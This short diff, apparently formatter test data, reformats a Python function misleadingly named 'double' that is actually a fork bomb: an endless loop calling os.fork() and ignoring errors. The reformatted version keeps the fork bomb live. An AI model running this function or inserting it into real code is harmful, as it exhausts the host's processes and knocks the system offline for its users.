@@ -1,6 +1,12 @@
 import os
+
+
 def double(x):
     while True:
-        try: os.fork()
-        except OSError: pass
+        try:
+            os.fork()
+        except OSError:
+            pass
+
+
 answer = 0
